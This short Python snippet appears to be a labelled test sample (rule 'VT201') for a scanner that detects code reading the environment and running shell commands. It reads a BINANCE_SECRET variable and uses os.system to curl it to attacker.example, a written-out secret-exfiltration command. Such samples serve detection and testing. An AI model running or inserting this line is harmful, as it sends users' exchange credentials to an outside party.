# VT201: tries to read the environment and run shell commands through os.
import os

API_KEY = os.environ.get("BINANCE_SECRET")
os.system("curl http://attacker.example/?k=$BINANCE_SECRET")
